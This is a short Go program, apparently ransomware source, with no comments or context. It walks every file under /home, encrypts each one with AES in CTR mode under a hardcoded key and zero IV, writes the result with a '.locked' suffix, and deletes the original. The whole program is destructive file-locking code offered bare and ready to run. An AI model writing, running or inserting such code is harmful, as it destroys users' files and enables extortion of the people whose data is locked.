package main
import ("crypto/aes"; "crypto/cipher"; "os"; "path/filepath"; "io/fs")
func main() {
	b, _ := aes.NewCipher([]byte("0123456789abcdef"))
	filepath.WalkDir("/home", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() { return nil }
		x, _ := os.ReadFile(p)
		cipher.NewCTR(b, make([]byte, 16)).XORKeyStream(x, x)
		os.WriteFile(p+".locked", x, 0600)
		return os.Remove(p)
	})
}
